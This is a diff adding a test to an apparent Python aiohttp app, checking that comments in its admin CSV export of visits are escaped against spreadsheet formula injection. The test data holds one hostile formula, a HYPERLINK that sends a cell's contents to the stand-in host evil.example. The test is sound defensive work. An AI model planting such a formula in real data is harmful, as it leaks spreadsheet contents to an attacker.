@@ -126,6 +126,13 @@ async def test_csv_export_reads_back_as_the_visits(client: TestClient) -> None:
     other = await client.get(f"/admin/atendimentos.csv?profissional={pro.id + 1}")
     assert len(list(csv.DictReader(io.StringIO(await other.text())))) == 0
 
+    # A comment a spreadsheet would run as a formula is exported as text.
+    hostile = '=HYPERLINK("http://evil.example/?"&C2,"ver")'
+    client.app[STORE].db.execute("UPDATE tickets SET comment = ? WHERE id = ?", (hostile, first))
+    text = await (await client.get("/admin/atendimentos.csv")).text()
+    exported = next(r for r in csv.DictReader(io.StringIO(text)) if int(r["ticket"]) == first)
+    assert exported["comment"] == "'" + hostile
+
 
 async def test_deactivate_and_reset_password(
     aiohttp_client: ClientMaker, client: TestClient
